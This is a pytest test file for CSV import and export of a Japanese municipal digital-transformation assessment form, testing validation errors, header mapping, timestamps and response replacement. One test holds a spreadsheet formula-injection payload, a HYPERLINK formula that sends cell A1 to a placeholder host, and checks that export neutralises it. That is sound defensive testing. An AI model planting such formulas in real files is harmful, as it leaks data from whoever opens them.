"""The web form's CSV: import (every row or none, each problem on its row and column), export,
and the round trip of the committed sample generated from the demo data."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import func, select, text
from sqlalchemy.ext.asyncio import AsyncConnection, async_sessionmaker

from auth.principal import Principal, Role
from auth.tokens import mint_token
from seeds.demo_assessment_loader import write_assessments
from service.assessments import webform
from service.assessments.csv_import import REPLACED_REASON, ImportRefused
from service.models import AuditRecord
from service.settings import Settings
from service.writes import Code
from tests import factories as f
from tests.assessments.csv_helpers import (
    SAMPLE,
    export_csv,
    import_csv,
    sample_rows,
    stored,
    to_csv,
)
from tests.conftest import GraphQL, data_of

ROUND = "2099-05"
AGGREGATE = "query($r: String!, $q: String!) { assessmentAggregate(round: $r, questionId: $q) { option count } }"  # noqa: E501
CHOICE_QUESTIONS = ("0-1", "1-1", "2-3", "2-4", "3-4", "3-9", "3-12", "4-1", "4-2")


@pytest.fixture
async def empty_round(connection: AsyncConnection) -> str:
    """A round of the 2024 framework without responses, open whenever (its period unset)."""
    await f.create_open_round(connection, ROUND, opens_on=None, closes_on=None)
    return ROUND


def column(rows: list[list[str]], key: str) -> int:
    return next(i for i, h in enumerate(rows[0]) if h.startswith(f"{key}. "))


async def audit_rows(connection: AsyncConnection) -> int:
    return int(await connection.scalar(select(func.count()).select_from(AuditRecord)))


async def refused(connection: AsyncConnection, data: bytes, **kwargs: object) -> list[tuple]:
    with pytest.raises(ImportRefused) as caught:
        await import_csv(connection, ROUND, data, **kwargs)  # type: ignore[arg-type]
    return [(p.row, p.column, p.code) for p in caught.value.problems]


# --- the sample: export, import into an empty round, export again -------------------------


async def test_the_demo_round_exports_as_the_committed_sample_and_round_trips(
    connection: AsyncConnection, empty_round: str, gql: GraphQL, settings: Settings
) -> None:
    sessionmaker = async_sessionmaker(
        bind=connection, expire_on_commit=False, join_transaction_mode="create_savepoint"
    )
    await write_assessments(connection, sessionmaker)
    sample = SAMPLE.read_bytes()
    # The committed file is what `dxlink export-assessment --round 2024-04` writes of the demo.
    assert (await export_csv(connection, "2024-04") or "").encode() == sample

    imported = await import_csv(connection, empty_round, sample)
    assert imported.rows == 30
    demo_answers = [r for r in await stored(connection, "2024-04") if r[1] is not None]
    assert imported.answers == len(demo_answers)
    assert (await export_csv(connection, empty_round) or "").encode() == sample

    token = mint_token(settings, role=Role.prefecture_admin, subject="admin")
    for question in CHOICE_QUESTIONS:
        demo, imported_counts = [
            data_of(await gql(AGGREGATE, {"r": r, "q": question}, token=token))[
                "assessmentAggregate"
            ]
            for r in ("2024-04", empty_round)
        ]
        assert imported_counts == demo, question
        assert sum(c["count"] for c in demo) > 0
    # The timestamps are the submissions' moments, as the demo submitted them.
    demo_times = sorted(r[-1] for r in await stored(connection, "2024-04"))
    assert sorted(r[-1] for r in await stored(connection, empty_round)) == demo_times


# --- all or nothing ------------------------------------------------------------------------


async def test_one_bad_cell_imports_nothing_and_names_its_row_and_column(
    connection: AsyncConnection, empty_round: str
) -> None:
    rows = sample_rows()[:4]
    rows[3][column(rows, "4-1")] = "とても期待する"
    before = await audit_rows(connection)
    with pytest.raises(ImportRefused) as caught:
        await import_csv(connection, empty_round, to_csv(rows))
    (problem,) = caught.value.problems
    assert (problem.row, problem.column, problem.code) == (4, "4-1", Code.NOT_AN_OPTION)
    assert problem.header == rows[0][column(rows, "4-1")]
    assert "とても期待する" in problem.message
    assert str(problem).startswith('NOT_AN_OPTION: row 4, column "4-1. DXの推進について')
    # Rows 2 and 3 were fine, and are not there either.
    assert await stored(connection, empty_round) == []
    assert await audit_rows(connection) == before


async def test_every_problem_of_every_row_is_reported(
    connection: AsyncConnection, empty_round: str
) -> None:
    rows = sample_rows()[:7]
    rows[1][column(rows, "8-1")] = "架空町"
    rows[2][0] = "2024-04-22"
    rows[4][column(rows, "8-1")] = rows[3][column(rows, "8-1")]
    # Row 6: 2-4 answered although 2-3 says no department is planned.
    rows[5][column(rows, "2-3")] = "設置する予定はない"
    rows[5][column(rows, "2-4")] = "部・課等"
    rows[6][column(rows, "4-2")] = "DXの取り組みの進捗管理, 県庁の引っ越し"
    assert await refused(connection, to_csv(rows)) == [
        (2, "8-1", Code.NOT_FOUND),
        (3, webform.TIMESTAMP, Code.INVALID),
        (5, "8-1", Code.DUPLICATE_MUNICIPALITY),
        (6, "2-4", Code.CONDITION_NOT_MET),
        (7, "4-2", Code.NOT_AN_OPTION),
    ]
    assert await stored(connection, empty_round) == []


async def test_a_required_question_left_blank_names_its_column(
    connection: AsyncConnection, empty_round: str
) -> None:
    rows = sample_rows()[:2]
    rows[1][column(rows, "4-1")] = ""
    assert await refused(connection, to_csv(rows)) == [(2, "4-1", Code.REQUIRED)]


async def test_a_row_sent_outside_the_round_is_refused_on_its_timestamp(
    connection: AsyncConnection,
) -> None:
    await f.create_open_round(
        connection, ROUND, opens_on=date(2024, 4, 22), closes_on=date(2024, 5, 7)
    )
    rows = sample_rows()[:3]
    rows[2][0] = "2024/05/08 00:10:00"  # the day after the round closed, in Japan
    assert await refused(connection, to_csv(rows)) == [(3, webform.TIMESTAMP, Code.ROUND_CLOSED)]
    rows[2][0] = "2024/05/07 23:59:59"
    assert (await import_csv(connection, ROUND, to_csv(rows))).rows == 2


async def test_only_the_prefecture_imports(connection: AsyncConnection, empty_round: str) -> None:
    staff = Principal(
        Role.municipal_staff,
        subject="staff",
        municipality_id=await f.municipality_id(connection, "302015"),
        municipality_code="302015",
    )
    data = to_csv(sample_rows()[:2])
    assert await refused(connection, data, principal=staff) == [(None, None, Code.FORBIDDEN)]
    assert await stored(connection, empty_round) == []


async def test_an_unknown_round(connection: AsyncConnection) -> None:
    with pytest.raises(ImportRefused) as caught:
        await import_csv(connection, "1999-04", to_csv(sample_rows()[:2]))
    assert [(p.field(), p.code) for p in caught.value.problems] == [
        (("input", "round"), Code.NOT_FOUND)
    ]


# --- headers -------------------------------------------------------------------------------

COMPLETE = dict(f.COMPLETE)
TEXTS = {
    "0-1": "基本的な考え方：組織内において、DXに関する定義を行っていますか？",
    "4-1": "DXの推進について、県に支援を期待しますか？",
}


def minimal(headers: dict[str, str], municipality: str = "302015") -> bytes:
    """One row answering the required questions, under the given header per question."""
    keys = list(COMPLETE)
    header = [webform.TIMESTAMP, headers.get("8-1", "8-1. 自治体名")] + [
        headers.get(k, k) for k in keys
    ]
    row = ["2024/04/22 10:15:30", municipality] + [", ".join(COMPLETE[k]) for k in keys]
    return to_csv([header, row])


@pytest.mark.parametrize(
    "headers",
    [
        {},  # the bare id
        {"0-1": "0-1.", "4-1": "4-1 DXの推進について、県に支援を期待しますか？"},
        {"0-1": "０－１．全角の見出し", "3-12": "3-12) BPR"},  # NFKC: full-width digits and dash
        {"0-1": TEXTS["0-1"], "4-1": "  DXの推進について、県に支援を期待しますか？ "},  # by text
        {"0-1": TEXTS["0-1"].replace("DX", "ＤＸ"), "8-1": "自治体名"},  # text, NFKC
    ],
)
async def test_columns_map_by_id_prefix_or_by_text(
    connection: AsyncConnection, empty_round: str, headers: dict[str, str]
) -> None:
    imported = await import_csv(connection, empty_round, minimal(headers))
    assert (imported.rows, imported.answers) == (1, len(COMPLETE))
    got = {(r[1], r[2]) for r in await stored(connection, empty_round)}
    assert got == {(k, "|".join(v)) for k, v in COMPLETE.items()}


async def test_an_unmapped_or_repeated_column_is_refused(
    connection: AsyncConnection, empty_round: str
) -> None:
    rows = sample_rows()[:2]
    rows[0].append("メールアドレス")
    rows[0].append("4-1")
    rows[1] += ["a@example.jp", "大いに期待する"]
    with pytest.raises(ImportRefused) as caught:
        await import_csv(connection, empty_round, to_csv(rows))
    assert [(p.row, p.column, p.code) for p in caught.value.problems] == [
        (1, "メールアドレス", Code.UNMAPPED_COLUMN),
        (1, "4-1", Code.DUPLICATE_COLUMN),
    ]
    assert caught.value.problems[0].field() == ("input", "file", "1", "メールアドレス")


async def test_the_municipality_by_code_or_name(
    connection: AsyncConnection, empty_round: str
) -> None:
    data = minimal({}, "302015") + minimal({}, "和歌山県 海南市").split(b"\r\n", 1)[1]
    assert (await import_csv(connection, empty_round, data)).rows == 2
    assert {r[0] for r in await stored(connection, empty_round)} == {"302015", "302023"}


# --- cells ---------------------------------------------------------------------------------


def test_multiple_choice_cells_are_matched_against_the_labels() -> None:
    labels = ["A, B", "A", "B", "C、D", "E"]
    assert webform.split_choices("A, B", labels) == ["A, B"]  # the longest label first
    assert webform.split_choices("A, B, E", labels) == ["A, B", "E"]
    assert webform.split_choices("E, A", labels) == ["E", "A"]
    assert webform.split_choices("C、D, A, B", labels) == ["C、D", "A, B"]
    # Backtracking: "A, B, C" is not "A, B" then "C"; with "B, C" a label it is "A" "B, C".
    assert webform.split_choices("A, B, C", [*labels, "B, C"]) == ["A", "B, C"]
    assert webform.split_choices("A, X", labels) is None
    assert webform.split_choices("", labels) == []
    assert webform.unknown_choices("A, X", labels) == ["X"]


async def test_a_multiple_choice_cell_with_commas_in_its_labels(
    connection: AsyncConnection, empty_round: str
) -> None:
    chosen = [
        "域内市区町村との連絡調整や情報交換の場の開催",
        "ICTの専門家の派遣や、専門家の相談を受けることができる体制づくり",
        "デジタルリテラシーの向上等を図る研修、人事交流などを通じた職員育成",
    ]
    COMPLETE_42 = {**COMPLETE, "4-2": chosen}
    keys = list(COMPLETE_42)
    header = [webform.TIMESTAMP, "8-1", *keys]
    row = ["2024/04/22 10:15:30", "302015"] + [", ".join(COMPLETE_42[k]) for k in keys]
    await import_csv(connection, empty_round, to_csv([header, row]))
    got = {r[1]: r[2] for r in await stored(connection, empty_round)}
    assert got["4-2"] == "|".join(chosen)
    exported = await export_csv(connection, empty_round)
    assert exported is not None
    assert '"' + ", ".join(chosen) + '"' in exported


@pytest.mark.parametrize(
    ("cell", "utc"),
    [
        ("2024/04/22 10:15:30", datetime(2024, 4, 22, 1, 15, 30, tzinfo=UTC)),
        ("2024/4/22 8:05:00", datetime(2024, 4, 21, 23, 5, tzinfo=UTC)),
        ("2024/04/22 午後 1:15:30", datetime(2024, 4, 22, 4, 15, 30, tzinfo=UTC)),
        ("2024/04/22 12:00:00 午前 GMT+9", datetime(2024, 4, 21, 15, 0, tzinfo=UTC)),
        ("２０２４/０４/２２　１０:１５:３０", datetime(2024, 4, 22, 1, 15, 30, tzinfo=UTC)),
        ("2024-04-22 10:15:30", None),
        ("2024/02/30 10:15:30", None),
        ("", None),
    ],
)
def test_timestamps_are_japan_s_time(cell: str, utc: datetime | None) -> None:
    assert webform.parse_timestamp(cell) == utc
    if utc is not None:
        assert webform.parse_timestamp(webform.format_timestamp(utc)) == utc


async def test_the_timestamp_is_the_submission_s_moment(
    connection: AsyncConnection, empty_round: str
) -> None:
    await import_csv(connection, empty_round, minimal({}))
    ((status, submitted_at),) = {(r[5], r[6]) for r in await stored(connection, empty_round)}
    assert status == "SUBMITTED"
    assert submitted_at == datetime(2024, 4, 22, 1, 15, 30, tzinfo=UTC)
    exported = await export_csv(connection, empty_round)
    assert exported is not None
    assert exported.splitlines()[1].startswith("2024/04/22 10:15:30,")


# --- replacing -----------------------------------------------------------------------------


def answered(answers: dict[str, list[str]], municipality: str = "302015") -> bytes:
    keys = list(answers)
    header = [webform.TIMESTAMP, "8-1", *keys]
    row = ["2024/04/22 10:15:30", municipality] + [", ".join(answers[k]) for k in keys]
    return to_csv([header, row])


async def test_a_submitted_response_is_replaced_only_when_asked(
    connection: AsyncConnection, empty_round: str
) -> None:
    first = {**COMPLETE, "2-3": ["設置済み"], "2-4": ["部・課等"]}
    await import_csv(connection, empty_round, answered(first))
    before = await stored(connection, empty_round)
    assert {(r[1], r[2]) for r in before} == {(k, "|".join(v)) for k, v in first.items()}

    second = {**COMPLETE, "4-1": ["全く期待しない"]}  # 2-3 and 2-4 left blank now
    assert await refused(connection, answered(second)) == [(2, "8-1", Code.RESPONSE_SUBMITTED)]
    assert await stored(connection, empty_round) == before

    assert (await import_csv(connection, empty_round, answered(second), replace=True)).rows == 1
    after = await stored(connection, empty_round)
    assert {(r[1], r[2]) for r in after} == {(k, "|".join(v)) for k, v in second.items()}
    assert {r[5] for r in after} == {"SUBMITTED"}
    # Reopened by the prefecture on the way, with the import's reason.
    reasons = await connection.execute(
        text(
            "SELECT after->>'reopened_reason' FROM audit_log WHERE entity = 'assessment_response' "
            "AND before->>'status' = 'SUBMITTED' AND after->>'status' = 'REOPENED'"
        )
    )
    assert [r[0] for r in reasons] == [REPLACED_REASON]


FORMULAS = {
    "8-2": '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
    "8-3": "+81-73-432-4111",
    "8-4": "-",
    "8-5": "@SUM(1+1)",
}


async def test_export_defuses_formula_cells_and_the_import_restores_them(
    connection: AsyncConnection, empty_round: str
) -> None:
    # The attack: a municipality's free text `=HYPERLINK(...)` (saveAssessmentAnswers) was
    # written back as it is by export-assessment, and runs as a formula in the spreadsheet the
    # prefecture opens the file with. The export prefixes such a cell with ' (OWASP's advice);
    # the import takes one ' off again, so a round trip keeps the text as it was.
    keys = list(COMPLETE)
    header = [webform.TIMESTAMP, "8-1", *keys, *FORMULAS]
    row = ["2024/04/22 10:15:30", "302015"] + [", ".join(COMPLETE[k]) for k in keys]
    await import_csv(connection, empty_round, to_csv([header, row + list(FORMULAS.values())]))
    exported = await export_csv(connection, empty_round)
    assert exported is not None
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    cells = {rows[0][i].split(". ")[0]: rows[1][i] for i in range(len(rows[0]))}
    for key, value in FORMULAS.items():
        assert cells[key] == "'" + value
    await f.create_open_round(connection, "2099-06", opens_on=None, closes_on=None)
    await import_csv(connection, "2099-06", exported.encode())
    got = {r[1]: r[3] for r in await stored(connection, "2099-06")}
    assert {k: got[k] for k in FORMULAS} == FORMULAS


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1", "-", "@A1", "\t=1", "'=1", "''+1", "'", "'a", "a=1", "-5", "1.5", ""]
)
def test_formula_escaping_round_trips(cell: str) -> None:
    escaped = webform.defuse_formula(cell)
    assert webform.restore_formula(escaped) == cell
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r") or escaped == "-5"
